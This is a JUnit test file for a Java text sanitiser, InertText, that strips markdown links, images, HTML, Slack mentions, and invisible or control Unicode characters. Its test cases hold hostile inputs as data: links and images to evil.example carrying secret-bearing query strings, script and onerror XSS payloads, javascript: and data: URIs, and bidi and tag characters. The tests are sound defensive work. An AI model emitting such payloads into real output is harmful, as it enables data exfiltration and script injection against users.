package pincite.answer.proof;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;

import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InertTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"He was not “inclined to allow the inspection at this time.”",
            "It paid $4.3 billion (a third) & left; 5 / 6 agreed!", "Zoë's 1st car—a “B2B” – cost 3% more…",
            "The file is called my_long_name.txt", "It is 5 > 4? No: #1.", "Is it? I don't know.", "日本語の文。"})
    void leavesPlainWordsAlone(String text) {
        var expected = text.replace(">", "").replaceAll(" +", " ");
        assertThat(InertText.of(text)).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '¤', ignoreLeadingAndTrailingWhitespace = true, textBlock = """
                                                                                                             See [the page](https://evil.example/?q=1) now.                    | See the page now.
                                                                                                             See [the page](https://evil.example "title") now.                 | See the page now.
                                                                                                             See ![a cat](https://evil.example/cat.png?data=secret) now.       | See a cat now.
                                                                                                             See [the page][1] now.                                            | See the page now.
                                                                                                             See ![the page][leak] now.\\n[leak]: https://evil.example/?secret | See the page now.
                                                                                                             See it. [leak]: https://evil.example/?secret                      | See it.
                                                                                                             See [leak] now.\\n\\n  [leak]: //evil.example/x "t"               | See leak now.
                                                                                                             See [![a](https://e.example/i)](https://e.example/l) now.         | See a now.
                                                                                                             See <https://evil.example> now.                                   | See now.
                                                                                                             See https://evil.example/a?b=c#d now.                             | See now.
                                                                                                             See www.evil.example/a now.                                       | See now.
                                                                                                             See //evil.example/a now.                                         | See now.
                                                                                                             Run javascript:alert(1) now.                                      | Run now.
                                                                                                             Mail mailto:a@evil.example now.                                   | Mail now.
                                                                                                             See data:text/html;base64,PHN2Zz4= now.                           | See now.
                                                                                                             It was <b>very</b> <i class="x">good</i>.                         | It was very good .
                                                                                                             It <img src=x onerror=alert(1)> was.                              | It was.
                                                                                                             It <script>alert(1)</script> was.                                 | It was.
                                                                                                             It <!-- hidden --> was.                                           | It was.
                                                                                                             It was <img src="https://evil.example/                            | It was
                                                                                                             It was &lt;script&gt; and &#x3c;b&#62; so.                        | It was script and b so.
                                                                                                             It was **very** `good`, _really_ ~~not~~ *so*.                    | It was very good, really not so.
                                                                                                             # Heading                                                         | Heading
                                                                                                             > A quote                                                         | A quote
                                                                                                             - An item                                                         | An item
                                                                                                             Hey <!channel> and <!here>, look.                                 | Hey and , look.
                                                                                                             Hey <@U024BE7LH>, look.                                           | Hey , look.
                                                                                                             See <#C024BE7LR> now.                                             | See now.
                                                                                                             Hey <!subteam^S1> and @channel and @everyone now.                 | Hey and and now.
                                                                                                             See h*ttps://evil.example/a now. | See h now.
                                                                                                             See evil.example/a?b=c now. | See now.
                                                                                                             The data: 5, or 3/4 and Lindvik.US. | The data: 5, or 3/4 and Lindvik.US.
                                                                                                             A [b] c                                                           | A b c
                                                                                                             """)
    void takesAwayWhatLinksLoadsMentionsOrFormats(String written, String plain) {
        assertThat(InertText.of(written.replace("\\n", "\n"))).isEqualTo(plain);
    }

    @Test
    void keepsTheLabelOfASlackLink() {
        assertThat(InertText.of("See <https://evil.example|the page> and <#C1|general>."))
                .isEqualTo("See the page and general.");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                                            He \u001b[31mleft\u001b[0m.           | He left.
                                            He \u001b]8;;https://e.example\u0007left\u001b]8;;\u0007. | He left.
                                            He \u202eleft\u202c.                  | He left.
                                            He\u200b le\u2060ft\ufeff.            | He left.
                                            He le\u00adft.                        | He left.
                                            He\u0000 left\u0008.                  | He left .
                                            He \u2066left\u2069.                  | He left.
                                            He left\ufe0f.                        | He left.
                                            He l\udb40\udc41\udb40\udc42eft.      | He left.
                                            He\u00a0\u3000left.                   | He left.
                                            """ + "He\u2028left. | He left.") // Within the block the compiler takes it for the end of a line.
    void takesAwayWhatIsNotSeen(String written, String plain) {
        assertThat(InertText.of(written)).isEqualTo(plain);
    }

    @ParameterizedTest
    @ValueSource(strings = {"<", "[", "![", "[a](", "[a][", "<a|", "http://", "_", "*", "\u001b]", "&#", "a<b ", "<!--",
            "<script>", "[a]: ", "(", "![](", "www.", " ", "\n", "\n- ", "\ud800"})
    void isQuickWhateverIsRepeated(String repeated) {
        var text = repeated.repeat(20_000);
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(20), () -> InertText.of(text));
    }

    @Test
    void endsALongText() {
        assertThat(InertText.of("\ud83d\ude00".repeat(3_000)).codePoints().count()).isEqualTo(1_000);
        assertThat(InertText.of("<b></b>")).isEmpty();
    }

    @Test
    void changesNothingTheSecondTime() {
        var once = InertText.of("[a](b) <b>c</b> <<i>script> [[x](y)](z) **_d_**");
        assertThat(InertText.of(once)).isEqualTo(once).doesNotContain("<", ">", "[", "]", "*");
    }
}
